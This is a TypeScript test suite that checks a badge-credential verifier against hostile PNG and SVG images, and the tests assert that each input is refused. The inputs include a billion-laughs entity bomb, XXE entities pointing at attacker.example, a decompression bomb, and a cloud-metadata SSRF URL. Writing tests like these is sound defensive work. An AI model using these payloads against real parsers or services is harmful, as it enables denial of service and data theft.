// Hostile images: damaged PNG chunks, decompression bombs, entity bombs, external entities,
// scripts, deep nesting, and baked links to addresses the fetch guard forbids.
import { describe, expect, it } from 'vitest';
import { unbake } from '../../../src/verify/bake';
import { MAX_SVG_DEPTH } from '../../../src/verify/bake/svg';
import { startMockWeb } from '../http/support';
import { verify } from '../support/engine';
import {
  bakePng,
  concat,
  insertAfterHeader,
  PNG_SIGNATURE,
  plainPng,
  pngChunk,
  textChunkData,
} from './bake';
import { imageBytes } from './images';

// Every request fails the test: nothing in an image may make the engine fetch on its own.
startMockWeb();

const CREDENTIAL = '{"@context":["https://www.w3.org/ns/credentials/v2"],"type":["X"]}';
const svg = (text: string) => new TextEncoder().encode(text);

function inputCheck(report: Awaited<ReturnType<typeof verify>>) {
  return report.checks.find((check) => check.id === 'input');
}

describe('attacks: damaged PNG chunks', () => {
  it('refuses a chunk whose length runs past the end of the file (png_malformed)', async () => {
    const header = Uint8Array.of(0x00, 0x10, 0x00, 0x00, ...new TextEncoder().encode('iTXt'));
    const png = insertAfterHeader(plainPng(), concat(header, new Uint8Array(64)));

    const baked = await unbake(png);

    expect(baked).toMatchObject({ ok: false, code: 'png_malformed' });
  });

  it('refuses a credential chunk whose CRC does not match (png_crc_mismatch)', async () => {
    const png = await bakePng('openbadgecredential', CREDENTIAL);
    const tampered = png.slice();
    const at = tampered.indexOf(0x58); // the "X" of the credential's type
    tampered[at] = 0x59;

    const baked = await unbake(tampered);

    expect(baked).toEqual({
      ok: false,
      code: 'png_crc_mismatch',
      message: 'The PNG image is damaged: a chunk does not match its checksum (CRC).',
    });
  });

  it('refuses a PNG cut off before IEND (png_malformed)', async () => {
    const png = await bakePng('openbadgecredential', CREDENTIAL);

    const baked = await unbake(png.subarray(0, png.length - 12));

    expect(baked).toMatchObject({ ok: false, code: 'png_malformed' });
  });

  it('refuses a PNG that is only its signature (png_malformed)', async () => {
    expect(await unbake(PNG_SIGNATURE)).toMatchObject({ ok: false, code: 'png_malformed' });
  });

  it('refuses compressed text that is not zlib (png_malformed)', async () => {
    const keyword = 'openbadgecredential';
    const data = await textChunkData(keyword, 'not zlib at all');
    data[keyword.length + 1] = 1; // the compression flag, over text that was never deflated

    const baked = await unbake(insertAfterHeader(plainPng(), pngChunk('iTXt', data)));

    expect(baked).toMatchObject({ ok: false, code: 'png_malformed' });
  });
});

describe('attacks: huge credential text', () => {
  it('refuses an uncompressed iTXt over 1 MiB (input_too_large)', async () => {
    const png = await bakePng('openbadgecredential', `"${'a'.repeat(1024 * 1024 + 1)}"`);

    const baked = await unbake(png);

    expect(baked).toMatchObject({ ok: false, code: 'input_too_large' });
  });

  it('stops inflating a compressed iTXt bomb at 1 MiB (input_too_large)', async () => {
    const bomb = ' '.repeat(16 * 1024 * 1024);
    const png = await bakePng('openbadgecredential', bomb, { compressed: true });
    expect(png.length).toBeLessThan(64 * 1024);

    const baked = await unbake(png);

    expect(baked).toMatchObject({ ok: false, code: 'input_too_large' });
  });
});

describe('attacks: XML in SVG', () => {
  const billionLaughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE svg [',
    '  <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => {
      const previous = i === 0 ? 'lol' : `lol${i}`;
      return `  <!ENTITY lol${i + 1} "${`&${previous};`.repeat(10)}">`;
    }),
    ']>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">',
    '<openbadges:credential>&lol9;</openbadges:credential>',
    '</svg>',
  ].join('\n');

  it('refuses an entity bomb (billion laughs) outright (svg_dtd_refused)', async () => {
    const baked = await unbake(svg(billionLaughs));

    expect(baked).toMatchObject({ ok: false, code: 'svg_dtd_refused' });
  });

  it('reports the entity bomb as an invalid SVG upload', async () => {
    const report = await verify({ kind: 'file', bytes: svg(billionLaughs) });

    expect(report.verdict).toBe('invalid');
    expect(report.source).toEqual({ kind: 'svg' });
    expect(inputCheck(report)).toMatchObject({ status: 'failed', code: 'svg_dtd_refused' });
  });

  it('refuses an external entity and fetches nothing (svg_dtd_refused)', async () => {
    const text = [
      '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "https://attacker.example/secret">]>',
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">',
      '<openbadges:credential>&xxe;</openbadges:credential></svg>',
    ].join('');

    const report = await verify({ kind: 'file', bytes: svg(text) });

    expect(inputCheck(report)).toMatchObject({ status: 'failed', code: 'svg_dtd_refused' });
  });

  it('never loads an external DTD, so its entities stay undefined (svg_malformed)', async () => {
    const text = [
      '<!DOCTYPE svg SYSTEM "https://attacker.example/evil.dtd">',
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org">',
      '<openbadges:credential>&xxe;</openbadges:credential></svg>',
    ].join('');

    const report = await verify({ kind: 'file', bytes: svg(text) });

    expect(inputCheck(report)).toMatchObject({ status: 'failed', code: 'svg_malformed' });
  });

  it('refuses nesting deeper than the cap (svg_too_deep)', async () => {
    const depth = MAX_SVG_DEPTH + 1;
    const text = `<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(depth)}${'</g>'.repeat(depth)}</svg>`;

    expect(await unbake(svg(text))).toMatchObject({ ok: false, code: 'svg_too_deep' });
  });

  it('finds no credential in badgr’s SVG full of <script> and event handlers', async () => {
    const bytes = imageBytes('badgr-server/hacked-svg-with-embedded-script-tags.svg');

    const report = await verify({ kind: 'file', bytes });

    expect(report.verdict).toBe('invalid');
    expect(inputCheck(report)).toMatchObject({ code: 'no_credential_in_image' });
    expect(JSON.stringify(report)).not.toMatch(/script|alert/i);
  });
});

describe('attacks: baked links', () => {
  it('follows a baked URL only through the fetch guard, which refuses internal addresses', async () => {
    const png = await bakePng('openbadges', 'https://169.254.169.254/latest/meta-data/');

    const report = await verify({ kind: 'file', bytes: png });

    expect(report.verdict).toBe('invalid');
    expect(report.source).toEqual({ kind: 'png' });
    expect(inputCheck(report)).toMatchObject({ status: 'failed', code: 'url_forbidden' });
  });
});
